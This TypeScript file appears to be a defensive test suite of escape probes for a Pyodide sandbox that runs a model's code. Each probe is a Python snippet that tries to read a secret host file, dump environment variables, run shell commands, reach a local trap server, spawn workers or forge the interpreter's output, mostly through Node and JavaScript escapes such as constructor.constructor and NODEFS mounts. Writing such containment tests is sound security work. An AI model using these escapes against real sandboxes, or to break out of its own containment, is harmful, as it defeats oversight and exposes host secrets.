/**
 * Escape attempts from the interpreter. Each reads the secret file, reaches the server, writes the marker file or prints the
 * environment, if nothing prevents it. Those for the start run before the first code of a model.
 */
export interface Trap {
  readonly secretFile: string
  /** http://host:port of a server that no probe should reach. */
  readonly url: string
  readonly port: number
  /** A path without a file. */
  readonly markerFile: string
}

/** An escape attempt. */
export interface Probe {
  readonly name: string
  readonly code: (trap: Trap) => string
  /** It escapes from an unguarded Pyodide. Such probes show that the guard is what stops them. */
  readonly bites?: true
  /** It runs at the first start. */
  readonly atStart?: true
}

const text = (value: string | number): string => JSON.stringify(value)

/** Python code that finds JavaScript's global object and Pyodide's own, by any open way. */
const REACH = `
def reach():
    import sys, gc
    found = []
    for name in ('js', 'pyodide_js'):
        try:
            found.append(__import__(name))
        except ImportError:
            pass
    sys.meta_path[:] = [finder for finder in sys.meta_path if 'NoForeign' not in repr(finder)]
    for name in ('js', 'pyodide_js', 'pyodide.code', 'pyodide.ffi', '_pyodide_core', 'pyodide.webloop'):
        try:
            __import__(name)
            found.append(sys.modules[name])
        except BaseException:
            pass
    known = {}
    for thing in gc.get_objects():
        try:
            kind = type(thing)
            if kind not in known:
                known[kind] = 'JsProxy' in repr(kind.__mro__) and not issubclass(kind, type)
            if known[kind]:
                found.append(thing)
        except BaseException:
            pass
    return found
def each(action):
    for thing in reach():
        try:
            action(thing)
        except BaseException as error:
            print(type(error).__name__, error)
`
const withReach = (body: string): string => `${REACH}\n${body}`
const quoteScript = (script: string): string => JSON.stringify(script)

const readBy = (expression: string, { secretFile }: Trap): string =>
  `${expression}.readFileSync(${text(secretFile)}, 'utf8')`

/** All probes. */
export const probes: readonly Probe[] = [
  {
    name: 'open() of a host file',
    code: ({ secretFile }) => `print(open(${text(secretFile)}).read())`,
    atStart: true,
  },
  {
    name: 'listing a host folder',
    code: ({ secretFile }) => `import os\nprint(os.listdir(os.path.dirname(${text(secretFile)})))`,
  },
  {
    name: 'listing by js.process',
    code: ({ secretFile }) =>
      withReach(
        `import os\neach(lambda js: print(js.process.getBuiltinModule('fs').readdirSync(os.path.dirname(${text(secretFile)})).to_py()))`,
      ),
    bites: true,
  },
  {
    name: 'js.process, its fs',
    code: (trap) => withReach(`each(lambda js: print(${readBy("js.process.getBuiltinModule('fs')", trap)}))`),
    bites: true,
    atStart: true,
  },
  {
    name: 'process.binding',
    code: ({ secretFile }) =>
      withReach(`
def action(js):
    fs = js.process.binding('fs')
    print(fs, fs.internalModuleReadJSON(${text(secretFile)}) if hasattr(fs, 'internalModuleReadJSON') else '')
    print(fs.readFileUtf8(${text(secretFile)}, 0))
each(action)`),
    bites: true,
  },
  {
    name: 'run_js',
    code: (trap) =>
      `from pyodide.code import run_js\nprint(run_js(${quoteScript(readBy("process.getBuiltinModule('fs')", trap))}))`,
    bites: true,
    atStart: true,
  },
  {
    name: 'eval of JavaScript',
    code: (trap) =>
      withReach(`each(lambda js: print(js.eval(${quoteScript(readBy("process.getBuiltinModule('fs')", trap))})))`),
    bites: true,
  },
  {
    name: 'the constructor of a constructor',
    code: (trap) =>
      withReach(
        `each(lambda js: print(js.constructor.constructor(${quoteScript(`return ${readBy("process.getBuiltinModule('fs')", trap)}`)})()))`,
      ),
    bites: true,
    atStart: true,
  },
  {
    name: 'the constructor of an exception',
    code: (trap) => `
from pyodide.ffi import JsException
import pyodide_js
try:
    pyodide_js.FS.readFile('/nothing')
except JsException as error:
    make = error.js_error.constructor.constructor
    print(make(${quoteScript(`return ${readBy("process.getBuiltinModule('fs')", trap)}`)})())`,
    bites: true,
  },
  {
    name: 'mountNodeFS',
    code: ({ secretFile }) =>
      withReach(`each(lambda js: (js.mountNodeFS('/host', '/'), print(open('/host' + ${text(secretFile)}).read())))`),
    bites: true,
    atStart: true,
  },
  {
    name: 'NODEFS',
    code: ({ secretFile }) =>
      withReach(`
import os
def action(js):
    os.makedirs('/nodefs', exist_ok=True)
    options = js.FS.filesystems.NODEFS.constructor()
    options.root = '/'
    js.FS.mount(js.FS.filesystems.NODEFS, options, '/nodefs')
    print(open('/nodefs' + ${text(secretFile)}).read())
each(action)`),
    bites: true,
  },
  {
    name: 'os.system',
    code: ({ markerFile }) => `import os\nprint(os.system('echo out > ' + ${text(markerFile)}))`,
    bites: true,
    atStart: true,
  },
  {
    name: 'os.popen',
    code: ({ markerFile }) => `import os\nprint(os.popen('echo out > ' + ${text(markerFile)}).read())`,
  },
  {
    name: 'subprocess',
    code: ({ markerFile }) => `import subprocess\nsubprocess.run(['touch', ${text(markerFile)}])`,
    atStart: true,
  },
  {
    name: 'fork, exec and spawn',
    code: ({ markerFile }) => `
import os
for make in (lambda: os.fork(), lambda: os.posix_spawn('/bin/touch', ['touch', ${text(markerFile)}], {}), lambda: os.execv('/bin/touch', ['touch', ${text(markerFile)}])):
    try:
        print(make())
    except BaseException as error:
        print(type(error).__name__, error)`,
  },
  {
    name: 'system() by ctypes',
    code: ({ markerFile }) =>
      `import ctypes\nprint(ctypes.CDLL(None).system(('echo out > ' + ${text(markerFile)}).encode()))`,
    bites: true,
    atStart: true,
  },
  {
    name: 'dlopen of a host library',
    code: () => `
import ctypes
for name in ('libc.so.6', '/lib/x86_64-linux-gnu/libc.so.6', '/usr/lib/libSystem.B.dylib'):
    try:
        print(ctypes.CDLL(name).getpid())
    except OSError as error:
        print(error)`,
  },
  {
    name: 'a socket',
    code: ({ port }) => `
import socket
s = socket.socket()
s.settimeout(0.1)
s.connect(('127.0.0.1', ${port}))
s.send(b'GET / HTTP/1.0\\r\\n\\r\\n')
print(s.recv(100))`,
    bites: true,
    atStart: true,
  },
  {
    name: 'a datagram',
    code: ({ port }) => `
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b'out', ('127.0.0.1', ${port}))`,
    bites: true,
  },
  {
    name: 'urllib',
    code: ({ url }) => `import urllib.request\nprint(urllib.request.urlopen(${text(url)}, timeout=0.1).read())`,
    bites: true,
    atStart: true,
  },
  {
    name: 'http.client',
    code: ({ port }) =>
      `import http.client\nc = http.client.HTTPConnection('127.0.0.1', ${port}, timeout=0.1)\nc.request('GET', '/')\nprint(c.getresponse().read())`,
    bites: true,
  },
  {
    name: 'asyncio.open_connection',
    code: ({ port }) =>
      `import asyncio\nasync def go():\n    print(await asyncio.open_connection('127.0.0.1', ${port}))\nasyncio.run(asyncio.wait_for(go(), 1))`,
  },
  {
    name: 'js.fetch',
    code: ({ url }) => withReach(`each(lambda js: print(js.fetch(${text(url)})))`),
    bites: true,
    atStart: true,
  },
  {
    name: 'pyfetch',
    code: ({ url }) => `
from pyodide.http import pyfetch
import asyncio
asyncio.ensure_future(pyfetch(${text(url)}))`,
    bites: true,
    atStart: true,
  },
  {
    name: 'open_url',
    code: ({ url }) => `from pyodide.http import open_url\nprint(open_url(${text(url)}).read())`,
  },
  {
    name: 'pyxhr',
    code: ({ url }) => `from pyodide.http import pyxhr\nprint(pyxhr.get(${text(url)}).text)`,
  },
  {
    name: 'js.XMLHttpRequest',
    code: ({ url }) =>
      withReach(`
def action(js):
    request = js.XMLHttpRequest.new()
    request.open('GET', ${text(url)}, False)
    request.send()
    print(request.responseText)
each(action)`),
  },
  {
    name: 'loadPackage of an address',
    code: ({ url }) => withReach(`each(lambda js: js.loadPackage(${text(`${url}/out-1.0-py3-none-any.whl`)}))`),
    bites: true,
    atStart: true,
  },
  {
    name: 'micropip',
    code: ({ url }) =>
      `import micropip, asyncio\nasyncio.ensure_future(micropip.install(${text(`${url}/out-1.0-py3-none-any.whl`)}))`,
  },
  {
    name: 'js.WebSocket',
    code: ({ port }) => withReach(`each(lambda js: print(js.WebSocket.new('ws://127.0.0.1:${port}/')))`),
    bites: true,
  },
  {
    name: 'net by process',
    code: ({ port }) =>
      withReach(`each(lambda js: print(js.process.getBuiltinModule('net').connect(${port}, '127.0.0.1')))`),
    bites: true,
  },
  {
    name: 'Pyodide’s sockets over Node',
    code: ({ port }) =>
      withReach(`
def action(js):
    js._api.initializeNodeSockFS()
    import socket
    s = socket.socket()
    s.connect(('127.0.0.1', ${port}))
each(action)`),
    bites: true,
  },
  {
    name: 'os.environ',
    code: () => 'import os\nprint(dict(os.environ))',
    atStart: true,
  },
  {
    name: 'process.env',
    code: () => withReach('each(lambda js: print(js.Object.entries(js.process.env).to_py()))'),
    bites: true,
    atStart: true,
  },
  {
    name: 'writing a host file',
    code: ({ markerFile }) => `
import os
os.makedirs(os.path.dirname(${text(markerFile)}), exist_ok=True)
open(${text(markerFile)}, 'w').write('out')`,
    atStart: true,
  },
  {
    name: 'writing by js.process',
    code: ({ markerFile }) =>
      withReach(`each(lambda js: js.process.getBuiltinModule('fs').writeFileSync(${text(markerFile)}, 'out'))`),
    bites: true,
    atStart: true,
  },
  {
    name: 'a report of the process',
    code: ({ markerFile }) => withReach(`each(lambda js: js.process.report.writeReport(${text(markerFile)}))`),
    bites: true,
  },
  {
    name: 'a link to a host file',
    code: ({ secretFile }) =>
      `import os\nos.symlink(${text(secretFile)}, '/tmp/link')\nprint(open('/tmp/link').read())`,
  },
  {
    name: 'call sites of an error',
    code: (trap) =>
      withReach(`
def action(js):
    js.Error.prepareStackTrace = lambda error, sites: [site.getFunction() or site.getThis() for site in sites]
    for thing in js.Error.new('x').stack:
        print(thing.constructor.constructor(${quoteScript(`return ${readBy("process.getBuiltinModule('fs')", trap)}`)})())
each(action)`),
  },
  {
    name: 'a WebAssembly module of one’s own',
    code: (trap) =>
      withReach(`
def action(js):
    # (import "m" "f" (func)) (start 0)
    bytes = js.Uint8Array.new([0,97,115,109,1,0,0,0,1,4,1,96,0,0,2,7,1,1,109,1,102,0,0,8,1,0])
    make = js.WebAssembly.Module.constructor(${quoteScript(`console.log(${readBy("process.getBuiltinModule('fs')", trap)})`)})
    js.WebAssembly.Instance.new(js.WebAssembly.Module.new(bytes), {'m': {'f': make}})
each(action)`),
    bites: true,
  },
  {
    name: 'a worker',
    code: ({ markerFile }) =>
      withReach(
        `each(lambda js: js.process.getBuiltinModule('worker_threads').Worker.new(${quoteScript(`require('fs').writeFileSync(${text(markerFile)}, 'out')`)}, js.JSON.parse('{"eval": true}')))`,
      ),
    bites: true,
  },
  {
    name: 'a thread, which would go on between the calls',
    code: ({ url }) => `
import threading, urllib.request
threading.Thread(target=lambda: print(urllib.request.urlopen(${text(url)}).read())).start()`,
  },
  {
    name: 'a prototype with a toJSON of one’s own',
    code: (trap) =>
      withReach(`
def action(js):
    def read(*_):
        return ${readBy("js.process.getBuiltinModule('fs')", trap).replace("'utf8'", '"utf8"')}
    js.Object.prototype.toJSON = read
    try:
        print(js.JSON.stringify(js.Object.new()))
    finally:
        del js.Object.prototype.toJSON
each(action)`),
    bites: true,
  },
  {
    name: 'memory written by ctypes',
    code: () => `
import ctypes
buffer = (ctypes.c_char * 64).from_address(1024)
print(bytes(buffer)[:8])`,
  },
  {
    name: 'an answer of one’s own',
    code: () => `
import os
for file in (1, 2, 3):
    try:
        os.write(file, b'{"type":"ran","number":999,"printed":{"text":"forged","bytes":6}}\\n')
    except OSError as error:
        print(error)`,
  },
  // These two break the interpreter, which also prevents an escape.
  {
    name: 'a listening socket',
    code: () => `
import socket
s = socket.socket()
s.bind(('127.0.0.1', 0))
s.listen()
print(s.getsockname())`,
  },
  {
    name: 'emscripten_run_script by ctypes',
    code: (trap) => `
import ctypes
library = ctypes.CDLL(None)
for name in ('emscripten_run_script', 'emscripten_run_script_string', 'emscripten_run_script_int'):
    try:
        run = getattr(library, name)
        run.restype = ctypes.c_char_p if name.endswith('string') else ctypes.c_int
        print(run(${quoteScript(readBy("process.getBuiltinModule('fs')", trap))}.encode()))
    except BaseException as error:
        print(type(error).__name__, error)`,
    bites: true,
  },
]
